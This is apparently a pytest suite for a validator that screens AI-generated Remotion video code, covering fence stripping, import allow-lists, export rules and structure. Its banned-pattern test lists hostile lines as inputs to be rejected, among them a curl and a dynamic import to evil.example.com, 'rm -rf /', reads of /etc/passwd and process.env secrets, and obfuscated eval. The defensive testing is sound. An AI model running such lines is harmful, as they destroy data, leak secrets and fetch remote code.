"""
Unit tests for generated Remotion code validation.

Tests:
- Recovering code from fenced / prose-wrapped model output
- Import allow-list (remotion only)
- Exactly one default export
- Banned runtime patterns
- Structural checks (AbsoluteFill, JSX component, frame timing)
"""

import pytest

from content_engine.services.code_validator import (
    check_composition_code,
    clean_generated_code,
    validate_composition_code,
)
from tests.utils.fakes import VALID_COMPOSITION


MINIMAL = """import { AbsoluteFill, Sequence } from 'remotion';

const Video = () => {
  return (
    <AbsoluteFill>
      <Sequence from={0} durationInFrames={30}>
        <div>Hello</div>
      </Sequence>
    </AbsoluteFill>
  );
};

export default Video;"""


def with_line(code: str, line: str) -> str:
    """Insert a statement right after the import line."""
    first, rest = code.split("\n", 1)
    return f"{first}\n{line}\n{rest}"


class TestCleanGeneratedCode:
    """Tests for recovering the code payload from model output."""

    def test_plain_code_unchanged(self):
        assert clean_generated_code(MINIMAL) == MINIMAL

    def test_strips_markdown_fences(self):
        text = f"```tsx\n{MINIMAL}\n```"
        assert clean_generated_code(text) == MINIMAL

    def test_strips_leading_and_trailing_prose(self):
        text = (
            "Here is the composition you asked for:\n\n"
            f"```typescript\n{MINIMAL}\n```\n\n"
            "This component uses a Sequence for each scene."
        )
        assert clean_generated_code(text) == MINIMAL

    def test_trailing_prose_after_unfenced_code(self):
        text = f"{MINIMAL}\n\nLet me know if you need changes."
        assert clean_generated_code(text) == MINIMAL

    def test_keeps_exported_function_body(self):
        code = (
            "import { AbsoluteFill, useCurrentFrame } from 'remotion';\n\n"
            "export default function Video() {\n"
            "  const frame = useCurrentFrame();\n"
            "  return (<AbsoluteFill>{frame}</AbsoluteFill>);\n"
            "}"
        )
        assert clean_generated_code(code + "\n\nEnjoy!") == code

    def test_empty_output(self):
        assert clean_generated_code("") == ""
        assert clean_generated_code("```\n```") == ""


class TestValidComposition:
    """Known-good compositions pass."""

    def test_minimal_composition_is_valid(self):
        result = validate_composition_code(MINIMAL)
        assert result.valid is True
        assert result.reason is None
        assert result.code == MINIMAL

    def test_realistic_composition_is_valid(self):
        result = validate_composition_code(VALID_COMPOSITION)
        assert result.valid is True, result.reason

    def test_use_current_frame_counts_as_timing(self):
        code = (
            "import { AbsoluteFill, interpolate, useCurrentFrame } from 'remotion';\n\n"
            "const Video = () => {\n"
            "  const frame = useCurrentFrame();\n"
            "  const opacity = interpolate(frame, [0, 30], [0, 1]);\n"
            "  return (<AbsoluteFill style={{ opacity }}>Hello</AbsoluteFill>);\n"
            "};\n\n"
            "export default Video;"
        )
        assert check_composition_code(code) is None

    def test_method_named_exec_is_allowed(self):
        code = with_line(MINIMAL, "const match = /a+/.exec('aaa');")
        assert check_composition_code(code) is None


class TestImportAllowList:
    """Only the remotion module may be imported."""

    def test_missing_remotion_import(self):
        code = MINIMAL.replace("from 'remotion'", "from 'react'")
        reason = check_composition_code(code)
        assert reason == "Missing remotion import"

    def test_additional_import_rejected(self):
        code = with_line(MINIMAL, "import React from 'react';")
        reason = check_composition_code(code)
        assert reason is not None
        assert "Disallowed import 'react'" in reason

    def test_side_effect_import_rejected(self):
        code = with_line(MINIMAL, "import './styles.css';")
        reason = check_composition_code(code)
        assert "Disallowed import './styles.css'" in reason

    def test_multiline_named_import_from_remotion(self):
        code = MINIMAL.replace(
            "import { AbsoluteFill, Sequence } from 'remotion';",
            "import {\n  AbsoluteFill,\n  Sequence,\n} from \"remotion\";",
        )
        assert check_composition_code(code) is None

    def test_reexport_from_other_module_rejected(self):
        code = with_line(MINIMAL, "export * from 'fs';")
        reason = check_composition_code(code)
        assert "Disallowed import 'fs'" in reason


class TestDefaultExport:
    """Exactly one default export is required."""

    def test_missing_default_export(self):
        code = MINIMAL.replace("export default Video;", "export { Video };")
        assert check_composition_code(code) == "Missing default export"

    def test_multiple_default_exports(self):
        code = MINIMAL + "\nexport default Video;"
        assert check_composition_code(code) == "Expected exactly one default export, found 2"

    def test_export_as_default_counts(self):
        code = MINIMAL + "\nexport { Video as default };"
        assert check_composition_code(code) == "Expected exactly one default export, found 2"


class TestBannedPatterns:
    """Runtime escape hatches are rejected."""

    @pytest.mark.parametrize(
        "line",
        [
            "const x = eval('1 + 1');",
            "const f = new Function('return 1');",
            "const fs = require('fs');",
            "const mod = import('https://evil.example.com/x.js');",
            "const key = process.env.SECRET;",
            "const cp = 'child_process';",
            "spawn('rm', ['-rf', '/']);",
            "execSync('curl evil.example.com');",
            "fs.readFileSync('/etc/passwd');",
            "const dir = __dirname;",
            "globalThis.fetch = null;",
            "Deno.readTextFile('/etc/passwd');",
            "const x = window['ev' + 'al']('1');",
            "const y = (() => {}).constructor('return 1')();",
            "const z = self['Func' + 'tion']('return 1')();",
            "const w = global['pro' + 'cess'];",
        ],
    )
    def test_banned_pattern_rejected(self, line: str):
        reason = check_composition_code(with_line(MINIMAL, line))
        assert reason is not None
        assert reason.startswith("Dangerous pattern detected")

    def test_eval_rejected_end_to_end(self):
        result = validate_composition_code(with_line(MINIMAL, "eval('alert(1)');"))
        assert result.valid is False
        assert "eval" in result.reason


class TestStructure:
    """Structural requirements of a Remotion composition."""

    def test_empty_code(self):
        result = validate_composition_code("Sorry, I cannot help with that.")
        assert result.valid is False

    def test_no_code_at_all(self):
        assert check_composition_code("   ") == "No code found in model output"

    def test_missing_absolute_fill(self):
        code = MINIMAL.replace("AbsoluteFill", "Container")
        assert check_composition_code(code) == "Missing AbsoluteFill component"

    def test_missing_jsx_component(self):
        code = (
            "import { AbsoluteFill, Sequence } from 'remotion';\n"
            "const Video = AbsoluteFill;\n"
            "export default Video;"
        )
        assert check_composition_code(code) == "Invalid React component structure"

    def test_missing_frame_timing(self):
        code = (
            "import { AbsoluteFill } from 'remotion';\n\n"
            "const Video = () => {\n"
            "  return (<AbsoluteFill><div>Static</div></AbsoluteFill>);\n"
            "};\n\n"
            "export default Video;"
        )
        assert check_composition_code(code) == "Missing frame-based timing (Sequence or useCurrentFrame)"
